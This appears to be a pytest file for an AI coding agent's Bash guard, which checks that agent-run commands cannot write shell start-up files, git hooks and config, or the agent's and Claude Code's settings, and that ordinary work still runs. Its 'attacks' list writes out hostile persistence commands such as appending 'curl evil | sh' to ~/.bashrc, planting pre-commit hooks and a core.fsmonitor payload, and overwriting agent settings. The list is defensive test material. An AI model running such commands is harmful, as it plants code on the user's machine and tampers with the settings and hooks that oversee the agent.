@@ -1,0 +1,132 @@
+"""The guard: every Bash command outside the sandbox runs with the disk writable as usual and the network as usual,
+but the keys to the house (shell start-up files, git config and hooks, core.hooksPath, agentui's and Claude Code's
+settings, the project's protected paths) cannot be written; and the rest works as before: commits, the network,
+background commands, exit codes, the working directory. A call the person lifted runs without it."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from agentui.core.tools.base import ToolContext
+from agentui.core.tools.bash import Bash, BashArgs
+from agentui.core.trust import trust_file
+from tests.core.test_sandbox_setup import Box, boxed, git
+from tests.support.loopback import LoopbackServer, Reply
+
+
+@pytest.fixture
+def box(tmp_path: Path) -> Iterator[Box]:
+    yield from boxed(tmp_path)
+
+
+def ctx(lifted: bool = False) -> ToolContext:
+    return ToolContext(cwd=Path("."), session_id="s", tool_call_id="t", protection_lifted=lifted)
+
+
+def tool(box: Box) -> Bash:
+    return Bash(box.workspace, env={k: box.env[k] for k in ("HOME", "XDG_CONFIG_HOME")}, guard=box.guard)
+
+
+def test_the_keys_to_the_house_cannot_be_written(box: Box) -> None:
+    (box.home / ".bashrc").write_text("# mine\n")
+    git(box.project, "config", "user.name", "person")
+    hooks = box.home / "githooks"
+    hooks.mkdir()
+    (box.home / ".gitconfig").write_text(f"[core]\n\thooksPath = {hooks}\n[include]\n\tpath = ~/.gitconfig.local\n")
+    box.snapshot()
+    agentui_config = Path(box.env["AGENTUI_CONFIG_DIR"])
+    attacks = [
+        "echo 'curl evil | sh' >> ~/.bashrc",
+        "echo evil > ~/.zshrc; echo evil > ~/.bash_profile; echo evil > ~/.profile",
+        "mkdir -p ~/.config/fish/conf.d && echo evil > ~/.config/fish/conf.d/x.fish",
+        "git config user.name attacker",
+        "git config --global core.fsmonitor 'touch pwned'",
+        "mkdir -p ~/.config/git && echo '[core] fsmonitor = x' > ~/.config/git/config",
+        "echo '[core] hooksPath = /tmp' > ~/.gitconfig.local",
+        "echo 'touch pwned' > .git/hooks/pre-commit",
+        f"echo 'touch pwned' > {hooks}/pre-commit",
+        f"mkdir -p {agentui_config} && echo '{{}}' > {agentui_config}/config.json",
+        f"mkdir -p {trust_file(box.env).parent} && echo '{{}}' > {trust_file(box.env)}",
+        "mkdir -p ~/.claude && echo '{\"hooks\": {}}' > ~/.claude/settings.json",
+        "mkdir -p .claude && echo {} > .claude/settings.json",
+        "mv ~/.bashrc ~/.bashrc.old",
+    ]
+    for attack in attacks:
+        box.run(attack, guard=True)
+    assert (box.home / ".bashrc").read_text() == "# mine\n"
+    assert git(box.project, "config", "user.name").strip() == "person"
+    assert "fsmonitor" not in (box.home / ".gitconfig").read_text()
+    assert list(hooks.iterdir()) == [] and not (box.project / ".git" / "hooks" / "pre-commit").exists()
+    for path in (
+        box.home / ".zshrc",
+        box.home / ".bash_profile",
+        box.home / ".gitconfig.local",
+        box.home / ".config" / "git",
+        box.home / ".config" / "fish",
+        agentui_config,
+        trust_file(box.env),
+        box.home / ".claude" / "settings.json",
+        box.project / ".claude",
+    ):
+        assert not os.path.lexists(path), path
+
+
+def test_work_in_the_project_and_outside_it_goes_on_as_usual(box: Box) -> None:
+    git(box.project, "config", "user.name", "person")
+    git(box.project, "config", "user.email", "person@example.com")
+    (box.project / "a.txt").write_text("a")
+    outside = box.tmp / "build-output"
+    done = box.run(
+        f"echo x > ok.txt && mkdir -p {outside} && echo y > {outside}/y && "
+        "git add . && git commit -qm x && git log --format=%s && git show --stat --format= HEAD",
+        guard=True,
+    )
+    assert done.code == 0, done.err
+    assert done.out.splitlines()[0] == "x" and (outside / "y").read_text() == "y\n"
+    assert sorted(git(box.project, "ls-files").split()) == ["a.txt", "ok.txt"]  # (no stand-in committed)
+
+
+def test_the_network_is_as_usual(box: Box, server: LoopbackServer) -> None:
+    server.enqueue(Reply.error(200, {"ok": "reached"}))
+    fetch = f"python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://127.0.0.1:{server.port}/x\").read())'"
+    done = box.run(fetch, guard=True)
+    assert "reached" in done.out, done.err
+    assert [request.path for request in server.requests] == ["/x"]
+
+
+async def test_through_the_bash_tool_exit_codes_the_working_directory_and_background_commands_work(
+    box: Box,
+) -> None:
+    bash = tool(box)
+    (box.project / "sub").mkdir()
+    first = await bash.run(BashArgs(command="cd sub && echo here && exit 3"), ctx())
+    assert first.details["guarded"] and first.details["exitCode"] == 3 and first.content.startswith("here")
+    assert box.workspace.shell_cwd == box.project / "sub"
+    started = await bash.run(BashArgs(command="echo background; echo x > ~/.bashrc", run_in_background=True), ctx())
+    shell = box.workspace.shells.get(started.details["backgroundTaskId"])
+    assert shell is not None and await box.workspace.shells.wait(shell, 60)
+    assert shell.read_new().text.startswith("background") and not (box.home / ".bashrc").exists()
+    assert box.leftovers() == []  # (its stand-ins went when it ended)
+
+
+async def test_a_call_the_person_lifted_runs_without_the_guard(box: Box) -> None:
+    bash = tool(box)
+    result = await bash.run(BashArgs(command="echo '# theirs' >> ~/.bashrc"), ctx(lifted=True))
+    assert not result.is_error and not result.details["guarded"]
+    assert (box.home / ".bashrc").read_text() == "# theirs\n"
+    box.snapshot()
+
+
+def test_a_start_up_file_that_is_a_link_cannot_be_re_pointed_and_its_target_is_protected(box: Box) -> None:
+    dotfiles = box.tmp / "dotfiles"
+    dotfiles.mkdir()
+    (dotfiles / "bashrc").write_text("# mine\n")
+    (box.home / ".bashrc").symlink_to(dotfiles / "bashrc")
+    box.snapshot()
+    box.run("echo evil >> ~/.bashrc; ln -sfn /tmp/evil ~/.bashrc; rm -f ~/.bashrc", guard=True)
+    assert os.readlink(box.home / ".bashrc") == str(dotfiles / "bashrc")
+    assert (dotfiles / "bashrc").read_text() == "# mine\n"
